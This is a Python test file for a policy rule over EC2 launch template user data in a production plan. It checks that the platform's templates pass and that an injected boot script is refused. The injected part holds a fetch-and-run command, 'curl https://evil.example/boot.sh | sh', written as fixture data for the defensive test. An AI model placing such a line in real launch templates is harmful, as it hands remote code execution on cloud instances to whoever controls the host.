"""The rule over the prod plan: the platform's own templates pass; the review's three edits are refused."""

import base64

from components.plan.resources import PlanResource
from policies.framework import run_rules
from policies.rules.aws_ec2_launch_template_restrict_user_data import RULE
from seedance.check_command import plan_resources
from tests.conftest import _stack_plan

TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"


def test_the_platforms_templates_pass_and_an_extra_part_does_not():
    prod = plan_resources(_stack_plan("prod"))
    assert run_rules([RULE], prod, {"all": "mandatory"}) == []
    (template, *_) = [r for r in prod if r.type == TEMPLATE and "userData" in r.props]
    text = base64.b64decode(template.props["userData"]).decode()
    extra = "--//\nContent-Type: text/x-shellscript\n\n#!/bin/bash\ncurl https://evil.example/boot.sh | sh\n--//--\n"
    edited = base64.b64encode(text.replace("--//--\n", extra).encode()).decode()
    resource = PlanResource(template.urn, template.type, template.name, {**template.props, "userData": edited})
    (finding,) = run_rules([RULE], [resource], {"all": "mandatory"})
    assert finding.level == "mandatory" and "runs what it downloads at boot" in finding.message
